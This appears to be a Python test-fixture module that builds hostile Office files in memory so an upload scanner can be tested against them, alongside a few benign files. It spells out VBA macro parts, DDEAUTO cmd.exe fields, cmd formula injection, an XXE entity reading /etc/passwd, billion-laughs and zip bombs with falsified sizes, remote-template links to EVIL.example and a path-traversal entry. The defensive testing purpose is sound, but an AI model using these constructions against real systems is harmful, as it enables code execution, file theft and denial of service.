"""Office files as attackers send them, made here so that no such file lies in the repository."""
# ruff: noqa: E501  the XML of an attack is easier to read on one line

import io
import struct
import zipfile

_OFFICE = "http://schemas.openxmlformats.org"
_RELATIONS = f"{_OFFICE}/officeDocument/2006/relationships"
_TYPES = "application/vnd.openxmlformats-officedocument."
_MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}
PARAGRAPH = "<w:p><w:r><w:t>Laporan evaluasi</w:t></w:r></w:p>"


def relation(kind: str, target: str, mode: str = "External", number: int = 9) -> str:
    return f'<Relationship Id="r{number}" Type="{_RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def relations(*rows: str) -> str:
    return f'<?xml version="1.0"?><Relationships xmlns="{_OFFICE}/package/2006/relationships">{"".join(rows)}</Relationships>'


def word(body: str = PARAGRAPH) -> str:
    return f'<?xml version="1.0"?><w:document xmlns:w="urn:w" xmlns:o="urn:o" xmlns:r="urn:r"><w:body>{body}</w:body></w:document>'


def field(command: str) -> str:
    half = len(command) // 2  # as Word splits it, and as attackers do
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (command[:half], command[half:]))
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'


def types(format_key: str, main: str = "") -> str:
    part, declared = _MAIN[format_key]
    declared = main or _TYPES + declared
    return (
        f'<?xml version="1.0"?><Types xmlns="{_OFFICE}/package/2006/content-types">'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{part}" ContentType="{declared}"/></Types>'
    )


def office(format_key: str = "docx", *, main: str = "", content: str | bytes = "", **more: str | bytes) -> bytes:
    """A small sound package; `more` are further parts, "__" in a name for "/" and "·" for "."."""
    part = _MAIN[format_key][0]
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": types(format_key, main),
        "_rels/.rels": relations(relation("officeDocument", part, "Internal", 1)),
        part: content or word(),
    }
    return packed(parts | {name.replace("__", "/").replace("·", "."): text for name, text in more.items()})


def packed(parts: dict[str, str | bytes], **options: object) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9, **options) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return target.getvalue()


def with_part(name: str, content: str | bytes, format_key: str = "docx") -> bytes:
    return office(format_key, **{name.replace("/", "__").replace(".", "·"): content})


def with_relation(*rows: str) -> bytes:
    return with_part("word/_rels/document.xml.rels", relations(*rows))


def sheet(formula: str) -> str:
    return f'<worksheet xmlns="urn:x"><sheetData><row><c><f>{formula}</f><v>1</v></c></row></sheetData></worksheet>'


def lying_size(content: bytes, says: int) -> bytes:
    """The same archive saying that its last part is smaller than it is."""
    raw, at = bytearray(content), content.rfind(b"PK\x01\x02")
    header = struct.unpack("<I", raw[at + 42 : at + 46])[0]
    raw[at + 24 : at + 28] = raw[header + 22 : header + 26] = struct.pack("<I", says)
    return bytes(raw)


def overlapping(copies: int = 300, megabytes: int = 1) -> bytes:
    """Many names for one packed part: small on disk, large unpacked."""
    one = packed({"a.xml": b" " * megabytes * 2**20})
    at = one.rfind(b"PK\x01\x02")
    body, entry, end = one[:at], one[at : one.rfind(b"PK\x05\x06")], one[one.rfind(b"PK\x05\x06") :]
    entries = b"".join(entry[:46] + f"{n:05d}"[-5:].encode() + entry[51:] for n in range(copies))
    counted = struct.pack("<HHIIH", copies, copies, len(entries), len(body), 0)
    return body + entries + end[:8] + counted


LAUGHS = "<!DOCTYPE x [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {new} '{f'&{old};' * 10}'>" for old, new in zip("abcdefgh", "bcdefghi", strict=True)
) + "]><x>&i;</x>"  # fmt: skip
FETCHES = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"

REFUSED: dict[str, tuple[bytes, str]] = {
    "macros by content type": (office(main=MACRO_TYPE), "macros"),
    "macros by part": (with_part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 EVIL"), "macros"),
    "macros in a sheet of old": (with_part("xl/macrosheets/sheet1.xml", "<x/>", "xlsx"), "macros"),
    "a ribbon that runs": (with_part("customUI/customUI.xml", "<x onLoad='EVIL'/>"), "macros"),
    "a template from the web": (
        with_relation(relation("attachedTemplate", "https://EVIL.example/t.dotm")),
        "external_parts",
    ),
    "a picture from a share": (with_relation(relation("image", "file://EVIL.example/share/a.png")), "external_parts"),
    "a link to a program": (with_relation(relation("hyperlink", "file:///C:/Windows/EVIL.exe")), "external_parts"),
    "a link that is a script": (with_relation(relation("hyperlink", "javascript:EVIL()")), "external_parts"),
    "a share called internal": (
        with_relation(relation("image", r"\\EVIL.example\a.png", "Internal")),
        "external_parts",
    ),
    "a tracker behind an entity": (with_relation(relation("frame", "&#104;ttps://EVIL.example/")), "external_parts"),
    "an OLE object": (with_relation(relation("oleObject", "embeddings/a.bin", "Internal")), "embedded_files"),
    "an OLE object's bytes": (with_part("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"), "embedded_files"),
    "an OLE element": (office(content=word('<w:object><o:OLEObject ProgID="Package"/></w:object>')), "embedded_files"),
    "an OLE element in UTF-16": (
        office(content=word("<o:OLEObject/>").replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16")),
        "embedded_files",
    ),
    "ActiveX": (with_part("word/activeX/activeX1.xml", "<ocx/>"), "external_parts"),
    "a page put in": (office(content=word('<w:altChunk r:id="r9"/>')), "embedded_files"),
    "an archive inside": (with_part("word/media/a.zip", packed({"b": b"EVIL"})), "embedded_files"),
    "a program called a picture": (with_part("word/media/a.png", b"MZ EVIL"), "embedded_files"),
    "a page called a picture": (with_part("word/media/a.svg", "<svg onload='EVIL()'/>"), "embedded_files"),
    "DDE in a field": (office(content=word(field("DDEAUTO c:\\\\cmd.exe /k EVIL"))), "external_parts"),
    "DDE in a simple field": (office(content=word('<w:fldSimple w:instr="DDE cmd EVIL"/>')), "external_parts"),
    "a field that fetches": (office(content=word(field('INCLUDEPICTURE "https://EVIL.example/"'))), "external_parts"),
    "a formula that runs": (with_part("xl/worksheets/sheet1.xml", sheet("cmd|'/c EVIL'!A0"), "xlsx"), "external_parts"),
    "a formula that fetches": (
        with_part("xl/worksheets/sheet1.xml", sheet('&#87;EBSERVICE("x")'), "xlsx"),
        "external_parts",
    ),
    "a link to another book": (with_part("xl/externalLinks/externalLink1.xml", "<ddeLink/>", "xlsx"), "external_parts"),
    "a connection": (with_part("xl/connections.xml", "<connections/>", "xlsx"), "external_parts"),
    "entities that unfold": (office(content=LAUGHS), "external_parts"),
    "an entity that reads": (office(content=FETCHES), "external_parts"),
    "a bomb that says so": (office(word__media__a·xml=b" " * 200 * 2**20), "too_heavy"),
    "a bomb below the limit": (office(word__a·xml=b"<a>" + b" " * 40 * 2**20 + b"</a>"), "too_heavy"),
    "a bomb that lies": (lying_size(with_part("word/a.xml", b"<a>" + b" " * 9 * 2**20), 900_000), "broken_office"),
    "parts over one another": (overlapping(), "too_heavy"),
    "too many parts": (packed({f"{n}.xml": b"" for n in range(3_000)}), "too_heavy"),
    "elements without end": (office(content="<f>" * 90_000), "too_heavy"),
    "the same part twice": (office(WORD__document·xml="<x/>"), "broken_office"),
    "a part outside": (with_part("../../etc/cron.d/evil.xml", "<x/>"), "broken_office"),
    "a plain archive": (packed({"EVIL.exe": b"MZ"}), "not_office"),
    "cut in half": (office()[:400], "broken_office"),
    "an older format or a password": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_office"),
}

SOUND = {
    "a Word file with links": with_relation(relation("hyperlink", "https://example.go.id/?a=1&amp;b=2")),
    "a Word file with a contents list": office(
        content=word(field('TOC \\o "1-3" ') + field('HYPERLINK "https://a.id/link"'))
    ),
    "an Excel file with formulas": with_part("xl/worksheets/sheet1.xml", sheet("SUM(A1:A9)*2"), "xlsx"),
    "a PowerPoint file": office("pptx", content='<p:presentation xmlns:p="urn:p"/>'),
}
